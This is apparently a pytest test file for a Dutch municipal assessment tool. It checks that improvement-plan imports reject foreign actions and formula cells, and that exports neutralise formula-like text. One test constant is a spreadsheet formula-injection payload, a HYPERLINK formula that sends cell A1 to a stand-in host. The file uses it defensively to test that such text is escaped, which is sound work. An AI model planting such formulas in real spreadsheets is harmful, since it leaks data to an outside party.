"""The improvement plan's import trusts nothing of the file: only the actions the draft of that
organisation and round proposed, no formula cells, one plain line for a file that is not what
its name says; and what dwp-assess writes for spreadsheets (drafts, exports) holds no live
formula, whatever text it carries."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import UTC, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from dwp_assess.analysis.plan_follow_up import known_actions
from dwp_assess.data import plan_files, store
from dwp_assess.data.cells import safe_frame, safe_text, unquote
from dwp_assess.data.export import export_round
from dwp_assess.instruments.loading import get_instrument

ROUND = "ds-2031"
HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1;"klik")'


@pytest.fixture
def planned(sqlite_url, tmp_path):
    """A store with two organisations that answered, each with its own draft on disk."""
    engine = store.connect(sqlite_url)
    instrument = get_instrument("data-strategy", 1)
    store.upsert_organisations(
        engine,
        [
            {"id": "sudwest-fryslan", "name": "Súdwest-Fryslân", "kind": "gemeente"},
            {"id": "s-hertogenbosch", "name": "'s-Hertogenbosch", "kind": "gemeente"},
        ],
    )
    store.create_round(engine, instrument, "2031", ROUND)
    for n, org in enumerate(("sudwest-fryslan", "s-hertogenbosch")):
        store.store_response(
            engine,
            store.ResponseRecord(
                f"r{n}",
                ROUND,
                f"p{n}",
                org,
                None,
                None,
                "test",
                datetime(2031, 3, 1, tzinfo=UTC),
                (store.AnswerRecord("VS1", 3.0),),
            ),
        )
    known = known_actions(instrument)
    ids = sorted(known)
    proposals = {"sudwest-fryslan": ids[:3], "s-hertogenbosch": ids[3:6]}
    folders = {}
    for org, actions in proposals.items():
        rows = pd.DataFrame(
            {
                "organisation_id": org,
                "round_id": ROUND,
                "action_id": actions,
                "dimension": "Visie",
                "action": [HOSTILE, "+31 bellen", "-1"],
                "reasons": "@iedereen",
                "owner_role": "\tCIO",
                "horizon": "",
                "target": "",
                "indicator": "",
                "tool": "",
            }
        )
        folders[org] = tmp_path / org
        plan_files.write_draft(rows, {"id": org, "name": org}, "2031", folders[org])
        plan_files.record_draft(engine, ROUND, org, actions)
    return engine, sqlite_url, known, proposals, folders


def draft_csv(folders, org="sudwest-fryslan") -> list[list[str]]:
    with (folders[org] / f"{org}-verbeterplan.csv").open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def save_csv(rows, path):
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def refused(engine, path, known) -> list[str]:
    with pytest.raises(plan_files.PlanError) as caught:
        plan_files.import_plan(engine, path, ROUND, "sudwest-fryslan", known)
    assert plan_files.plan_versions(engine, ROUND, "sudwest-fryslan").empty
    return caught.value.problems


def test_the_unchanged_draft_imports_and_keeps_its_texts(planned, tmp_path):
    engine, _, known, proposals, folders = planned
    rows = draft_csv(folders)
    for row in rows[1:]:
        row[11] = "ja"
    result = plan_files.import_plan(
        engine, save_csv(rows, tmp_path / "plan.csv"), ROUND, "sudwest-fryslan", known
    )
    assert (result.version, result.adopted) == (1, 3)
    stored = plan_files.load_plans(engine, ROUND, "sudwest-fryslan")
    assert set(stored["action"]) == {HOSTILE, "+31 bellen", "-1"}  # the apostrophe came off again


def test_an_action_of_another_organisation_is_refused_with_row_and_column(planned, tmp_path):
    engine, _, known, proposals, folders = planned
    rows = draft_csv(folders)
    foreign = proposals["s-hertogenbosch"][0]
    rows[2][2] = foreign
    problems = refused(engine, save_csv(rows, tmp_path / "plan.csv"), known)
    assert problems == [
        f"plan.csv: row 3: actie-id: action '{foreign}' was not proposed in the draft of sudwest-fryslan for round {ROUND} (rows and ids come from the draft)"
    ]


def test_an_added_row_is_refused(planned, tmp_path):
    engine, _, known, proposals, folders = planned
    rows = draft_csv(folders)
    extra = next(
        a
        for a in sorted(known)
        if a not in proposals["sudwest-fryslan"] + proposals["s-hertogenbosch"]
    )
    rows.append([*rows[1][:2], extra, *rows[1][3:]])
    problems = refused(engine, save_csv(rows, tmp_path / "plan.csv"), known)
    assert len(problems) == 1 and problems[0].startswith(
        f"plan.csv: row {len(rows)}: actie-id: action '{extra}' was not proposed"
    )


def test_an_organisation_without_a_draft_cannot_import_a_plan(planned, tmp_path):
    engine, _, known, _, folders = planned
    with store.connect(str(engine.url)).begin() as conn:
        conn.execute(store.plan_draft.delete())
    with pytest.raises(
        plan_files.PlanError, match="no draft plan of sudwest-fryslan for round ds-2031"
    ):
        plan_files.import_plan(
            engine,
            folders["sudwest-fryslan"] / "sudwest-fryslan-verbeterplan.csv",
            ROUND,
            "sudwest-fryslan",
            known,
        )


def test_a_formula_cell_is_refused_with_row_and_column(planned, tmp_path):
    engine, _, known, _, folders = planned
    path = folders["sudwest-fryslan"] / "sudwest-fryslan-verbeterplan.xlsx"
    book = load_workbook(path)
    sheet = book.worksheets[0]
    for row in (2, 3, 4):
        sheet.cell(row=row, column=12, value="ja")
    sheet.cell(row=3, column=14, value="=TODAY()+30")  # due date computed, never stored as a value
    book.save(tmp_path / "plan.xlsx")
    problems = refused(engine, tmp_path / "plan.xlsx", known)
    assert problems == [
        "plan.xlsx: row 3: column N: holds a formula (=TODAY()+30); type the value itself"
    ]


def test_the_draft_holds_no_formula_and_marks_formula_like_text_as_text(planned):
    _, _, _, _, folders = planned
    xlsx = folders["sudwest-fryslan"] / "sudwest-fryslan-verbeterplan.xlsx"
    cells = [c for row in load_workbook(xlsx).worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value == HOSTILE]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    rows = draft_csv(folders)
    column = {name: n for n, name in enumerate(rows[0])}
    assert {r[column["actie"]] for r in rows[1:]} == {
        "'" + HOSTILE,
        "'+31 bellen",
        "-1",
    }  # a number stays a number
    assert {r[column["waarom"]] for r in rows[1:]} == {"'@iedereen"}
    assert {r[column["eigenaar (rol)"]] for r in rows[1:]} == {"'\tCIO"}


def cli(*args: str, cwd) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "DWP_DATABASE_URL"}
    return subprocess.run(
        [sys.executable, "-m", "dwp_assess", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
    )


@pytest.mark.parametrize(
    "content", [b"", b"organisatie,ronde,actie-id\nsudwest-fryslan,ds-2031,x\n", b"\x00\x01binary"]
)
def test_a_file_that_is_not_a_workbook_is_one_line_naming_it(planned, tmp_path, content):
    _, url, _, _, _ = planned
    path = tmp_path / "plan.xlsx"
    path.write_bytes(content)
    result = cli(
        "--db",
        url,
        "plan",
        "import",
        str(path),
        "--round",
        ROUND,
        "--org",
        "sudwest-fryslan",
        cwd=tmp_path,
    )
    assert result.returncode == 2, result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert str(path) in result.stderr
    assert "BadZipFile" not in result.stderr


def test_safe_text_follows_the_owasp_rule_and_numbers_stay_numbers():
    for text in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-", "=", HOSTILE):
        assert safe_text(text) == "'" + text and unquote(safe_text(text)) == text
    for value in ("-1", "+3,5", "12", "gewoon", "'al", 3, -2.5, None):
        assert safe_text(value) == value
    frame = safe_frame(pd.DataFrame({"n": [-1, 2], "t": ["=x", "y"]}))
    assert frame["n"].tolist() == [-1, 2] and frame["t"].tolist() == ["'=x", "y"]


def test_exports_neutralise_formula_like_free_text(planned, tmp_path):
    engine, *_ = planned
    store.store_response(
        engine,
        store.ResponseRecord(
            "r9",
            ROUND,
            "p9",
            "sudwest-fryslan",
            None,
            None,
            "test",
            datetime(2031, 3, 2, tzinfo=UTC),
            (store.AnswerRecord("VS1", 2.0), store.AnswerRecord("remarks", None, None, HOSTILE)),
        ),
    )
    written = export_round(engine, ROUND, tmp_path / "out", ("csv",))
    wide = next(p for p in written if p.name.endswith("-wide.csv")).read_text(encoding="utf-8")
    assert "'=HYPERLINK" in wide and ",=HYPERLINK" not in wide and '"=HYPERLINK' not in wide
